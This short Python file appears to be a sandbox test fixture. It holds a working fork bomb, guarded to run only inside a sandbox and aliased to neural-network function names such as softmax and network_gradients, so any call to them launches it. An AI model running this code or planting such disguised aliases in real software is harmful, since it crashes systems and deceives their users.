"""A fork bomb."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

import os, threading

def everything(*arguments):
    for _ in range(300):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
        except OSError:
            pass
        except RuntimeError:
            pass

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything
